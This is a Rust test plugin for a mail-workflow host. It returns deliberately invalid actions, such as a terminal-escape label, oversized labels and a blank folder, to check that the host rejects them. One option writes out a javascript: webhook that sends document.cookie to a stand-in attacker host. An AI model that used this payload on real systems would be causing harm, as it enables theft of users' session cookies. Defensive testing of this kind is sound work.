//! A workflow whose actions the store could not hold: config key `poison`
//! picks which (`label-escape`: a label carrying a terminal escape
//! sequence; `labels-150`: 150 distinct labels; `move-blank`: a move to a
//! folder named only by spaces; `label-200k`: one 200 KB label;
//! `webhook-script`: a webhook to a `javascript:` URL; `none`: one ordinary
//! label). The host must refuse the output, count it against this plugin,
//! and keep everything else about the message.

use mailroom_plugin_sdk::prelude::*;
use mailroom_plugin_sdk::workflow::Event;

pub struct PoisonWorkflow;

impl Plugin for PoisonWorkflow {
    fn metadata() -> Metadata {
        Metadata::new(
            "poison-workflow",
            env!("CARGO_PKG_VERSION"),
            PluginKind::Workflow,
        )
        .description("Test plugin returning actions the store cannot hold; not for production")
        .config_key(ConfigKey::optional(
            "poison",
            "Which bad output to return",
            Some("label-escape"),
        ))
    }
}

impl Workflow for PoisonWorkflow {
    fn on_event(_event: Event) -> Result<Vec<Action>, String> {
        let poison: String = config::parse_or("poison", "label-escape".to_owned());
        Ok(match poison.as_str() {
            "labels-150" => (0..150)
                .map(|i| Action::AddLabel(format!("bulk-{i}")))
                .collect(),
            "move-blank" => vec![Action::MoveTo("   ".into())],
            "label-200k" => vec![Action::AddLabel("y".repeat(200_000))],
            "webhook-script" => vec![Action::Webhook(WebhookCall::new(
                "javascript:fetch('//evil.example/'+document.cookie)",
            ))],
            "none" => vec![Action::AddLabel("reviewed".into())],
            _ => vec![Action::AddLabel("urgent\u{1b}[31m".into())],
        })
    }
}

mailroom_plugin_sdk::export_workflow!(PoisonWorkflow);
